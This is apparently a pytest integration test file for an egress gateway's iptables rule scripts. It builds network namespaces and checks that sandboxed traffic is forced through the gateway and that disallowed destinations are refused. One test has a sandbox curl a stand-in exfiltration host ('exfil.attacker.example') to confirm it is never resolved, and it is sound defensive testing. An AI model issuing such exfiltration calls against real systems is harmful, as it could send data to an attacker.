"""The two rule scripts of docker/netinit, run for real in network namespaces with a real gateway:
what the transparent deployments rely on, without Docker or a cluster. Every test runs twice: with
the scripts of the checkout (bash), and from the netinit image built for real (tests/deploy/images.py)
with podman, joined to the namespace with the capabilities and read-only root the deployments give
it (skipped, with the reason, where podman cannot build or run images).

    [shared]  docker/compose.transparent.yaml's namespace: shared-netns.sh; the gateway as uid 10001
              on 127.0.0.1; the "sandbox" is any other uid, without capabilities.
    [node]    a Kubernetes node of daemonset.yaml: node-redirect.sh in the node namespace; the
              gateway on the node's address; a pod behind a Calico-style veth (no address on the
              node's end, proxy ARP), whose traffic is DNATed to the gateway.
    [world]   the upstream: HTTP on ports 80 and 8000, reachable from both.

Every address is inside namespaces made here; nothing links them to the host. Needs root, ip,
iptables, curl and setpriv; skipped otherwise.
"""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
import time
from pathlib import Path

import pytest

from tests.support.waiting import wait_for

from . import podman as pm
from .deployfiles import DOCKER, GATEWAY_UID, ROOT

TOOLS = ("ip", "iptables", "curl", "setpriv")
unavailable = (
    "needs root" if os.geteuid() != 0 else
    next((f"needs {t}" for t in TOOLS if shutil.which(t) is None), None)
)
pytestmark = [pytest.mark.netns, pytest.mark.skipif(unavailable is not None, reason=unavailable or ""),
              pytest.mark.timeout(900)]  # the first test may wait for the netinit image's build

SUFFIX = f"{os.getpid() % 100000}"
WORLD, SHARED, NODE, POD = (f"egd{SUFFIX}{n}" for n in "wsnp")
POD_IF = f"cali{SUFFIX}"  # the node's end of the pod's veth, as Calico names it
NODE_IP, WORLD_IP_N, SHARED_IP, WORLD_IP_S, POD_IP = "10.77.0.2", "10.77.0.1", "10.77.1.2", "10.77.1.1", "10.78.0.2"
SANDBOX_UID = 20000
POLICY = f"""\
version: 1
network:
  allow_ip_ranges: [10.77.0.0/16]
resolver:
  static_hosts:
    up.test: [{WORLD_IP_N}]
rules:
  - id: up
    hosts: [up.test]
    schemes: [http]
    ports: [80]
    methods: [GET]
"""

AS_GATEWAY = ["setpriv", f"--reuid={GATEWAY_UID}", f"--regid={GATEWAY_UID}", "--clear-groups",
              # the test's Python may live where uid 10001 cannot read (a root-only pyenv)
              "--inh-caps=+dac_read_search", "--ambient-caps=+dac_read_search"]
AS_SANDBOX = ["setpriv", f"--reuid={SANDBOX_UID}", f"--regid={SANDBOX_UID}", "--clear-groups",
              "--inh-caps=-all", "--bounding-set=-all", "--no-new-privs"]


class Scripts:
    """How the rule scripts run: from the checkout with bash (image None), or from the netinit image
    as the deployments run it: root with NET_ADMIN and NET_RAW only, read-only root file system, no
    new privileges, in the namespace (`--network ns:`)."""

    def __init__(self, image: str | None = None):
        self.image = image

    def run(self, ns: str, script: str, *args: str, **env: str) -> subprocess.CompletedProcess:
        if self.image is None:
            assignments = [f"{k}={v}" for k, v in env.items()]
            return in_ns(ns, "env", *assignments, "bash", str(DOCKER / "netinit" / f"{script}.sh"), *args)
        options = [f"--env={k}={v}" for k, v in env.items()]
        return pm.podman("run", "--rm", "--network", f"ns:/run/netns/{ns}", "--cap-drop", "ALL",
                         "--cap-add", "NET_ADMIN", "--cap-add", "NET_RAW", "--security-opt", "no-new-privileges",
                         "--read-only", "--tmpfs", "/run:size=1m", *options,
                         "--entrypoint", f"/usr/local/sbin/{script}", self.image, *args, check=False, timeout=60)


def sh(*args: str, check: bool = True) -> subprocess.CompletedProcess:
    return subprocess.run(args, capture_output=True, text=True, check=check, timeout=60)


def in_ns(ns: str, *args: str, check: bool = False, timeout: float = 30) -> subprocess.CompletedProcess:
    return subprocess.run(["ip", "netns", "exec", ns, *args], capture_output=True, text=True, check=check,
                          timeout=timeout)


def curl(ns: str, url: str, *extra: str, who: list[str] = AS_SANDBOX, seconds: float = 3) -> subprocess.CompletedProcess:
    return in_ns(ns, *who, "curl", "-sS", "-m", str(seconds), *extra, url)


def _teardown(processes: list[subprocess.Popen]) -> None:
    for process in processes:
        if process.poll() is None:
            process.terminate()
    for process in processes:
        try:
            process.wait(15)
        except subprocess.TimeoutExpired:
            process.kill()
    for ns in (WORLD, SHARED, NODE, POD):
        sh("ip", "netns", "del", ns, check=False)
        shutil.rmtree(f"/etc/netns/{ns}", ignore_errors=True)


def _build_topology() -> None:
    for ns in (WORLD, SHARED, NODE, POD):
        sh("ip", "netns", "add", ns)
        sh("ip", "-n", ns, "link", "set", "lo", "up")
    # world <-> shared, world <-> node
    for ns, world_ip, ip, name in ((SHARED, WORLD_IP_S, SHARED_IP, "s"), (NODE, WORLD_IP_N, NODE_IP, "n")):
        sh("ip", "-n", WORLD, "link", "add", f"w{name}", "type", "veth", "peer", "name", "eth0", "netns", ns)
        sh("ip", "-n", WORLD, "addr", "add", f"{world_ip}/24", "dev", f"w{name}")
        sh("ip", "-n", WORLD, "link", "set", f"w{name}", "up")
        sh("ip", "-n", ns, "addr", "add", f"{ip}/24", "dev", "eth0")
        sh("ip", "-n", ns, "link", "set", "eth0", "up")
        sh("ip", "-n", ns, "route", "add", "default", "via", world_ip)
    # node <-> pod, Calico style
    sh("ip", "-n", NODE, "link", "add", POD_IF, "type", "veth", "peer", "name", "eth0", "netns", POD)
    sh("ip", "-n", NODE, "link", "set", POD_IF, "up")
    in_ns(NODE, "sysctl", "-qw", f"net.ipv4.conf.{POD_IF}.proxy_arp=1", "net.ipv4.ip_forward=1", check=True)
    sh("ip", "-n", NODE, "route", "add", f"{POD_IP}/32", "dev", POD_IF)
    sh("ip", "-n", POD, "addr", "add", f"{POD_IP}/32", "dev", "eth0")
    sh("ip", "-n", POD, "link", "set", "eth0", "up")
    sh("ip", "-n", POD, "route", "add", "169.254.1.1", "dev", "eth0", "scope", "link")
    sh("ip", "-n", POD, "route", "add", "default", "via", "169.254.1.1", "dev", "eth0")
    for ns, server in ((SHARED, WORLD_IP_S), (POD, "10.96.0.10")):  # any server: DNS is redirected
        Path(f"/etc/netns/{ns}").mkdir(parents=True, exist_ok=True)
        Path(f"/etc/netns/{ns}/resolv.conf").write_text(f"nameserver {server}\n")


def _wait_ready(ns: str, metrics: str, gateway: subprocess.Popen, log: Path) -> None:
    def ready() -> bool:
        if gateway.poll() is not None:
            raise RuntimeError(f"gateway exited with {gateway.returncode}:\n{log.read_text()}")
        return curl(ns, f"http://{metrics}/readyz", who=AS_GATEWAY, seconds=1).returncode == 0

    wait_for(ready, 30, f"the gateway in {ns} to be ready", interval=0.2, detail=log.read_text)


@pytest.fixture(scope="module", params=["checkout", "image"])
def scripts(request) -> Scripts:
    if request.param == "checkout":
        return Scripts()
    return Scripts(request.getfixturevalue("netinit_image").ref)


@pytest.fixture(scope="module")
def topology(tmp_path_factory, scripts):
    work = tmp_path_factory.mktemp("netinit")
    processes: list[subprocess.Popen] = []
    try:
        _build_topology()
        www = work / "www"
        www.mkdir()
        (www / "index.html").write_text("hello from the world\n")
        for port in ("80", "8000"):
            processes.append(subprocess.Popen(
                ["ip", "netns", "exec", WORLD, sys.executable, "-m", "http.server", port, "--bind", "0.0.0.0"],
                cwd=www, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL))
        policy = work / "policy.yaml"
        policy.write_text(POLICY)
        shared = scripts.run(SHARED, "shared-netns", "up")
        assert shared.returncode == 0, shared.stderr
        node = scripts.run(NODE, "node-redirect", "up", NODE_IP=NODE_IP, SANDBOX_INTERFACES="cali+")
        assert node.returncode == 0, node.stderr
        gateways = {
            SHARED: (["--mode", "transparent@127.0.0.1:8081", "--mode", "dns@127.0.0.1:5353"], f"{SHARED_IP}:9090"),
            NODE: (["--mode", f"transparent@{NODE_IP}:8081", "--mode", f"dns@{NODE_IP}:5353"], f"{NODE_IP}:9090"),
        }
        started = []
        for ns, (modes, metrics) in gateways.items():
            confdir = work / f"confdir-{ns}"
            confdir.mkdir()
            os.chown(confdir, GATEWAY_UID, GATEWAY_UID)
            log = work / f"gateway-{ns}.log"
            process = subprocess.Popen(
                ["ip", "netns", "exec", ns, *AS_GATEWAY, sys.executable, "-m", "gateway", "run", "--policy", str(policy),
                 *modes, "--metrics", metrics, "--confdir", str(confdir), "--audit-log", "-", "--workers", "1"],
                cwd=ROOT, env=dict(os.environ, PYTHONPATH=str(ROOT), HOME=str(confdir)),
                stdout=log.open("wb"), stderr=subprocess.STDOUT)
            processes.append(process)
            started.append((ns, metrics, process, log))
        for ns, metrics, process, log in started:
            _wait_ready(ns, metrics, process, log)
        yield work
    finally:
        _teardown(processes)


# --- the Compose namespace (shared-netns.sh) ------------------------------------------------------


def test_shared_a_sandbox_reaches_an_allowed_name_through_the_gateways_dns_and_transparent_listener(topology):
    result = curl(SHARED, "http://up.test/")
    assert result.returncode == 0 and result.stdout == "hello from the world\n", result.stderr


def test_shared_the_gateway_decides_what_the_sandbox_asked_for(topology):
    result = curl(SHARED, f"http://{WORLD_IP_N}/", "-H", "Host: other.test", "-o", "/dev/null",
                  "-w", "%{http_code} %header{x-egress-reason}")
    assert result.stdout == "403 no_rule"
    unknown = curl(SHARED, "http://exfil.attacker.example/")
    assert unknown.returncode == 6  # NXDOMAIN from the gateway's DNS: never looked up


def test_shared_everything_else_the_sandbox_sends_is_rejected_at_once(topology):
    started = time.monotonic()
    other_port = curl(SHARED, f"http://{WORLD_IP_S}:8000/")
    metrics = curl(SHARED, f"http://{SHARED_IP}:9090/metrics")
    assert other_port.returncode == 7 and metrics.returncode == 7  # refused, not timed out
    assert time.monotonic() - started < 3
    udp = in_ns(SHARED, *AS_SANDBOX, "bash", "-c", f"echo x > /dev/udp/{WORLD_IP_S}/9999")
    assert udp.returncode != 0
    # The gateway's own user is not redirected: it reaches the world and its own metrics.
    assert curl(SHARED, f"http://{WORLD_IP_S}:8000/", who=AS_GATEWAY).returncode == 0
    assert curl(SHARED, f"http://{SHARED_IP}:9090/readyz", who=AS_GATEWAY).returncode == 0


def test_shared_root_without_capabilities_cannot_remove_the_rules(topology, scripts):
    root_no_caps = ["setpriv", "--inh-caps=-all", "--bounding-set=-all", "--no-new-privs"]
    flush = in_ns(SHARED, *root_no_caps, "iptables", "-t", "nat", "-F")
    assert flush.returncode != 0
    check = scripts.run(SHARED, "shared-netns", "check")
    assert check.returncode == 0, check.stderr


# --- the Kubernetes node (node-redirect.sh) -------------------------------------------------------


def test_node_a_pod_reaches_an_allowed_name_through_the_nodes_gateway(topology):
    result = curl(POD, "http://up.test/", who=[])
    assert result.returncode == 0 and result.stdout == "hello from the world\n", result.stderr
    denied = curl(POD, f"http://{WORLD_IP_N}/", "-H", "Host: other.test", "-o", "/dev/null",
                  "-w", "%{http_code} %header{x-egress-reason}", who=[])
    assert denied.stdout == "403 no_rule"


def test_node_a_pod_reaches_nothing_else(topology):
    assert curl(POD, f"http://{WORLD_IP_N}:8000/", who=[], seconds=0.5).returncode == 28  # not forwarded
    assert curl(POD, f"http://{NODE_IP}:9090/readyz", who=[], seconds=0.5).returncode == 28  # not the node
    assert curl(NODE, f"http://{NODE_IP}:9090/readyz", who=[]).returncode == 0  # the node itself may


def test_node_rules_are_idempotent_and_removable(topology, scripts):
    env = {"NODE_IP": NODE_IP, "SANDBOX_INTERFACES": "cali+"}
    assert scripts.run(NODE, "node-redirect", "up", **env).returncode == 0
    rules = in_ns(NODE, "iptables-save").stdout
    for chain in ("-A PREROUTING -j EGRESS-GW-PRE", "-A FORWARD -j EGRESS-GW-FWD", "-A INPUT -j EGRESS-GW-IN"):
        assert rules.count(chain) == 1, chain
    assert scripts.run(NODE, "node-redirect", "down", **env).returncode == 0
    assert "EGRESS-GW" not in in_ns(NODE, "iptables-save").stdout
    assert scripts.run(NODE, "node-redirect", "up", **env).returncode == 0
    assert curl(POD, "http://up.test/", who=[]).returncode == 0
